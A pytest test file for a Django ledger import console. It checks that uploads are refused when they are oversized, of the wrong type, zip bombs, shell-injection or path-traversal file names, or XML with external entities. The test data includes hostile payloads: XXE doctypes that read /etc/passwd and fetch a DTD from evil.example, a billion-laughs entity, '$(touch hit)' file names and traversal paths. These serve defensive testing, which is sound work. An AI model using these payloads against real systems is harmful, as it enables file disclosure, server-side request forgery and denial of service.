"""What is uploaded to do harm: too much, too many, archives that swell, XML that reads files, names that climb."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pytest_django import Settings

from audit.models import Outbox
from imports import scanning, xlsx_file
from imports.deciding import MOST_BYTES, MOST_ROWS
from imports.models import Import
from imports.xlsx_file import read_xlsx
from ledger.importing.source import BadFile
from ledger.models import Action
from tests.imports.conftest import Desk, console, desk, importer  # noqa: F401  fixtures
from tests.imports.files import csv_of, upload, xlsx_of

pytestmark = pytest.mark.django_db(databases=["default", "audit"])
UID = "11111111-2222-3333-4444-555555555555"
GOOD = (UID, "deposit", "1", "", "", "", "", "")
ADD = "/console/imports/import/add/"


def rewritten(change: Callable[[str, bytes], bytes]) -> bytes:
    """A good workbook with its parts changed; its amount is a number."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_of((UID, "deposit", 1, *GOOD[3:])))) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return file.getvalue()


def with_entities(part: str, doctype: str, encoding: str) -> bytes:
    """A good workbook, one part of which declares entities."""

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        _, _, rest = data.decode().rpartition("?>")
        return f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{rest}'.encode(encoding)

    return rewritten(change)


def test_body_larger_than_any_form_is_refused_before_it_is_read(client: Client) -> None:
    class Unread(io.BytesIO):
        def read(self, *size: Any) -> bytes:
            raise AssertionError("The body was read.")

    body: Any = Unread()
    answer = client.generic("POST", ADD, CONTENT_LENGTH=str(settings.MOST_BODY + 1), **{"wsgi.input": body})
    assert answer.status_code == 413
    assert b"This is too large" in answer.content


@pytest.mark.parametrize("length", ["-1", "1e9", "9" * 30, "+5", "٣٤", "5 5"])
def test_length_that_is_none_is_refused_or_reads_nothing(client: Client, length: str) -> None:
    assert client.generic("POST", reverse("console:login"), CONTENT_LENGTH=length).status_code in {200, 413}


def test_form_with_too_many_fields_is_refused(client: Client) -> None:
    fields = {f"f{n}": "" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    assert client.post(reverse("console:login"), fields).status_code == 400


def test_form_with_too_much_text_is_refused(client: Client) -> None:
    text = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    assert client.post(reverse("console:login"), {"username": text}).status_code == 400


def test_form_with_two_files_is_refused(client: Client) -> None:
    files = {"file": upload(csv_of(GOOD)), "other": upload(csv_of(GOOD))}
    assert client.post(reverse("console:login"), files).status_code == 400


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "image/png", "multipart/mixed", "video/mp4"])
def test_file_that_says_it_is_another_kind_is_refused(desk: Desk, kind: str) -> None:  # noqa: F811  the fixture
    file = SimpleUploadedFile("postings.csv", csv_of(GOOD), content_type=kind)
    answer = desk.console.post(ADD, {"file": file, "how": "valid", "reason": "The bank sent it"})
    [sentence] = answer.context["form"].errors["file"]
    assert sentence == f"The browser says that the file is {kind}: choose a CSV or XLSX file."


@pytest.mark.parametrize(
    "content", [b"<html><script>alert(1)</script>", b"\x89PNG\r\n\x1a\n", b"MZ\x90\0", b"%PDF-1.7"]
)
@pytest.mark.parametrize("name", ["postings.csv", "postings.xlsx"])
def test_file_that_is_another_kind_is_refused_whatever_it_is_called(desk: Desk, content: bytes, name: str) -> None:  # noqa: F811  the fixture
    assert desk.error(content, name)
    assert not Action.objects.exists()


@pytest.mark.parametrize(
    "scanner",
    [
        ("cat > seen", ""),
        ("exec true", ""),  # reads nothing
        ("cat > seen; exit 1", "The scanner refused the file (exit status 1)"),
        ("kill -9 $$", "The scanner refused the file (exit status -9)"),
        ("exec sleep 60", "The scanner took too long"),
        (None, "The scanner could not be started"),
    ],
)
def test_upload_is_scanned_before_it_is_read(
    desk: Desk,  # noqa: F811  the fixture
    tmp_path: Path,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
    scanner: tuple[str | None, str],
) -> None:
    (script, sentence), program = scanner, tmp_path / "scanner"
    if script is not None:
        program.write_text(f"#!/bin/sh\ncd {tmp_path}\n{script}\n")
        program.chmod(0o700)
    settings.UPLOAD_SCAN_COMMAND = f"{program} --quiet"
    monkeypatch.setattr(scanning, "SECONDS", 1)
    content = csv_of(GOOD)
    page = desk.upload(content, "$(touch hit); x.csv")
    if script and "seen" in script:
        assert (tmp_path / "seen").read_bytes() == content
    assert {file.name for file in tmp_path.iterdir()} <= {"scanner", "seen"}  # nothing typed reaches a shell
    brought = Import.objects.get()
    [kind] = Outbox.objects.filter(type__startswith="import.").values_list("type", flat=True)
    if not sentence:
        assert (brought.state, bytes(brought.content), kind) == ("previewed", content, "import.uploaded")
        return
    assert page.context["form"].errors["file"][0].startswith(sentence)
    assert (brought.state, bytes(brought.content), kind) == ("unreadable", b"", "import.scanned_out")
    assert brought.problem.startswith(sentence)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "iso-8859-1", "us-ascii"])
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]>',
    ],
)
@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"])
def test_workbook_that_declares_entities_is_refused(part: str, doctype: str, encoding: str) -> None:
    with pytest.raises(BadFile, match=r"declares a document type"):
        read_xlsx(io.BytesIO(with_entities(part, doctype, encoding)))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "utf-32", "punycode"])
def test_workbook_in_an_encoding_that_would_hide_a_declaration_is_refused(encoding: str) -> None:
    doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    with pytest.raises(BadFile):
        list(read_xlsx(io.BytesIO(with_entities("xl/workbook.xml", doctype, encoding))).rows)


def test_archive_that_swells_is_refused_before_it_is_unpacked() -> None:
    bomb = rewritten(lambda name, data: data + bytes(xlsx_file.MOST_UNPACKED) if "sheet1" in name else data)
    assert len(bomb) < settings.MOST_BODY / 10
    with pytest.raises(BadFile, match="unpacks to more than 20 MB"):
        read_xlsx(io.BytesIO(bomb))


def test_archive_that_lies_about_its_size_gives_no_more_than_it_says() -> None:
    honest = rewritten(lambda name, data: data + b" " * 1_000_000 if "sheet1" in name else data)
    size = re.search(rb"PK\x01\x02.{20}(.{4})(?=.{18}xl/worksheets/sheet1.xml)", honest, re.DOTALL)
    assert size
    with pytest.raises(BadFile, match="damaged"):
        list(read_xlsx(io.BytesIO(honest.replace(size[1], (900).to_bytes(4, "little")))).rows)


def test_row_that_says_it_is_far_below_does_not_keep_the_server_busy() -> None:
    def far(name: str, data: bytes) -> bytes:
        return (
            data.replace(b'<row r="2"', b'<row r="99999999999"').replace(b' r="A2"', b"") if "sheet1" in name else data
        )

    with pytest.raises(
        BadFile, match="goes on below line 1,048,576"
    ):  # and not after the rows between, which take days
        list(read_xlsx(io.BytesIO(rewritten(far))).rows)


def test_number_of_a_million_digits_does_not_keep_the_server_busy() -> None:
    def long(name: str, data: bytes) -> bytes:
        return data.replace(b"<v>1</v>", b"<v>" + b"9" * 1_000_000 + b"</v>") if "sheet1" in name else data

    with pytest.raises(BadFile):  # and not after its value was computed, which takes minutes
        list(read_xlsx(io.BytesIO(rewritten(long))).rows)


@pytest.mark.parametrize("name", ["../../etc/passwd.csv", "..\\..\\x.csv", "/etc/x.csv", "a; x=1.csv", "<script>.csv"])
def test_name_of_a_file_is_a_name_and_nothing_else(desk: Desk, name: str) -> None:  # noqa: F811  the fixture
    preview = desk.upload(csv_of((UID, "fee", "1", "", "", "", "", "")), name)
    kept = Import.objects.get()
    assert "/" not in kept.file_name
    assert "<script>.csv" not in preview.content.decode()
    refused = desk.console.get(reverse("console:imports_import_refused", args=[kept.pk]))
    assert refused.headers["Content-Disposition"].startswith("attachment")
    assert "\n" not in refused.headers["Content-Disposition"]


def test_limits_are_those_of_the_documents() -> None:
    text = (settings.BASE_DIR / "docs/security.md").read_text() + (settings.BASE_DIR / "docs/imports.md").read_text()
    megabyte = 1024 * 1024
    assert f"{settings.MOST_BODY // megabyte} MB, answered with 413" in text
    assert (
        f"{settings.DATA_UPLOAD_MAX_NUMBER_FIELDS:,}, {settings.DATA_UPLOAD_MAX_MEMORY_SIZE // megabyte} MB, one"
        in text
    )
    assert f"{MOST_BYTES // megabyte} MB, {MOST_ROWS:,} rows" in text
    assert (
        f"{xlsx_file.MOST_UNPACKED // megabyte} MB, {xlsx_file.MOST_PARTS} parts, {xlsx_file.MOST_LINES:,} lines"
        in text
    )
    assert f"Up to {MOST_ROWS:,} rows and {MOST_BYTES // megabyte} MB" in text
